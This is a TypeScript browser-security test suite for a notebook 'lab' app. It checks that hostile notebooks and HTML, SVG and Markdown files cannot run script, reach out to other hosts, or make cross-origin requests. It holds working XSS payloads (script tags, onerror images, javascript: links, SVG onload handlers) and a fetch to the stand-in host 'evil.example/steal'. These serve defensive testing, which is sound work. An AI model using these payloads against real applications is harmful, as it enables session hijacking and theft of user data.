// Files and notebooks from elsewhere, opened in the lab by somebody who is logged in: nothing in them may act in the
// lab's name. Each is an attack, tried in a real Chromium.
import type { BrowserContext } from "playwright-core";
import { beforeAll, expect, it } from "vitest";
import { describeInBrowser, launch } from "./chromium.js";
import { type RunningCommand, startCommand } from "./lab-command.js";
import { LabPage, viewport } from "./lab-page.js";
import { code, markdown, notebook, notebookOf } from "./notebooks.js";

let command: RunningCommand;
/** The window in which somebody is logged in. */
let context: BrowserContext;
let lab: LabPage;

const act =
  "window.top.hacked = 1; document.title = 'hacked'; fetch('/api/contents').then(() => { window.top.hacked = 2; })";
const image = `<img src="data:," onerror="${act}">`;
const widgetState = "application/vnd.jupyter.widget-state+json";
const widgetView = "application/vnd.jupyter.widget-view+json";

function hostileNotebook(): string {
  const output = (data: object) => ({ output_type: "display_data", metadata: {}, data });
  const outputs = [
    output({
      "text/html": `<script>${act}</script>${image}<a href="javascript:${act}">click</a><iframe srcdoc="<script>parent.hacked=3</script>"></iframe>`,
    }),
    output({
      "image/svg+xml": `<svg xmlns="http://www.w3.org/2000/svg" onload="${act}"><script>${act}</script></svg>`,
    }),
    output({ "application/javascript": act, "text/plain": "no script" }),
    output({ "text/markdown": `${image} [x](javascript:${encodeURIComponent(act)})` }),
    output({ "text/latex": "$\\href{javascript:window.hacked=4}{x}$" }),
    output({
      [widgetView]: { model_id: "m", version_major: 2, version_minor: 0 },
      "text/plain": "no widget",
    }),
    output({
      "application/vnd.plotly.v1+json": {
        data: [],
        layout: { title: { text: `<a href="javascript:${act}">t</a>${image}` } },
      },
    }),
  ];
  const widgets = {
    [widgetState]: {
      version_major: 2,
      version_minor: 0,
      state: {
        m: {
          model_name: "HTMLModel",
          model_module: "@jupyter-widgets/controls",
          model_module_version: "2.0.0",
          state: { value: image },
        },
      },
    },
  };
  return notebook(
    [
      markdown(`# marked\n\n${image}<script>${act}</script>`, { metadata: { trusted: true } }),
      code("1", { execution_count: 1, metadata: { trusted: true }, outputs }),
    ],
    { widgets, signature: "sha256:0" },
  );
}

describeInBrowser("what comes from elsewhere", () => {
  beforeAll(async () => {
    command = await startCommand({
      "hostile.ipynb": hostileNotebook(),
      "page.html": `<title>quiet</title><p>shown</p><script>${act}</script>${image}`,
      "picture.svg": `<svg xmlns="http://www.w3.org/2000/svg"><script>${act}</script></svg>`,
      "own.ipynb": notebookOf("1"),
      "notes.md": `# notes\n\n${image}<script>${act}</script>`,
    });
    context = await (await launch()).newContext({ viewport });
    lab = await LabPage.open(context, command.url);
  });

  const hacked = () => lab.page.evaluate(() => (window as { hacked?: number }).hacked);

  it("a notebook with script in every kind of output and cell does nothing but show", async () => {
    await lab.file("hostile").dblclick();
    await lab.page.locator(".jp-RenderedMarkdown h1", { hasText: "marked" }).waitFor();
    await lab.page.locator(".jp-OutputArea-output", { hasText: "no widget" }).waitFor();
    await lab.page.getByRole("figure").locator(".main-svg").first().waitFor();
    const selector =
      ".jp-Notebook script, .jp-Notebook [onerror], .jp-Notebook [onload], .jp-Notebook iframe";
    expect(await lab.page.locator(selector).count()).toBe(0);
    const links = await lab.page
      .locator(".jp-Notebook a")
      .evaluateAll((list) =>
        list.map((link) => link.getAttribute("href") ?? link.getAttribute("xlink:href")),
      );
    expect(links.filter((href) => /javascript:/i.test(href ?? ""))).toEqual([]);
    expect(await hacked()).toBeUndefined();
    await lab.screenshot("strangers-1-notebook");
  });

  it("even a trusted notebook's output loads no script from another host", async () => {
    await lab.openNotebook("own");
    const asked: string[] = [];
    await lab.page.route("http://evil.example/**", (route) => {
      asked.push(route.request().url());
      return route.abort();
    });
    const html = "<script src='http://evil.example/x.js'></script><script>window.own = 1</script>";
    await lab.run(`import { notebookHost } from "latent-lab/core";
notebookHost()!.display({ "text/html": ${JSON.stringify(html)} });`);
    await lab.page.waitForFunction(() => (window as { own?: number }).own === 1);
    const fetched = await lab.page.evaluate(() =>
      fetch("http://evil.example/steal").then(
        () => "sent",
        () => "refused",
      ),
    );
    expect([asked, fetched]).toEqual([[], "refused"]);
  });

  it("HTML, SVG and Markdown files opened in the lab's viewers run nothing", async () => {
    for (const name of ["page.html", "picture.svg", "notes.md"]) {
      const factory = {
        "page.html": "HTML Viewer",
        "picture.svg": "Image",
        "notes.md": "Markdown Preview",
      }[name];
      await lab.command("docmanager:open", { path: name, factory });
      await lab.page.locator(".lm-DockPanel-tabBar .lm-mod-current", { hasText: name }).waitFor();
    }
    await lab.page.locator(".jp-RenderedMarkdown h1", { hasText: "notes" }).waitFor();
    expect(await hacked()).toBeUndefined();
  });

  it("the same files at their own address run nothing, though the browser sends the cookie", async () => {
    for (const name of ["page.html", "picture.svg"]) {
      const page = await context.newPage();
      const reply = await page.goto(`${command.origin}/files/${name}`);
      expect(reply?.status()).toBe(200);
      expect(await page.title()).not.toBe("hacked");
      // Nor could it read the lab if it found a way to run: its origin is its own, and has no cookies.
      expect(reply?.headers()["content-security-policy"]).toMatch(/^sandbox;/);
      await page.close();
    }
  });

  it("a page of another origin gets nothing, by frame, script, image, form or WebSocket", async () => {
    const page = await context.newPage();
    await page.route("http://evil.example/**", (route) =>
      route.fulfill({ contentType: "text/html", body: "<p>evil</p>" }),
    );
    await page.goto("http://evil.example/");
    const results = await page.evaluate(async (origin) => {
      const tried = (promise: Promise<unknown>) =>
        promise.then(
          () => "got in",
          () => "refused",
        );
      const load = (tag: "script" | "img", path: string) =>
        new Promise((resolve, reject) => {
          const node = document.createElement(tag);
          node.onload = resolve;
          node.onerror = reject;
          node.src = origin + path;
          document.body.append(node);
        });
      const socket = new Promise((resolve, reject) => {
        const made = new WebSocket(`${origin.replace("http", "ws")}/api/events/subscribe`);
        made.onopen = resolve;
        made.onerror = reject;
      });
      return Promise.all([
        tried(fetch(`${origin}/api/contents`, { credentials: "include" })),
        tried(fetch(`${origin}/api/contents`, { method: "POST", body: "{}", credentials: "include" })),
        tried(load("script", "/static/lab/lab.js")),
        tried(load("img", "/files/picture.svg")),
        tried(socket),
      ]);
    }, command.origin);
    expect(results).toEqual(Array(5).fill("refused"));
    await page.close();
  });
});
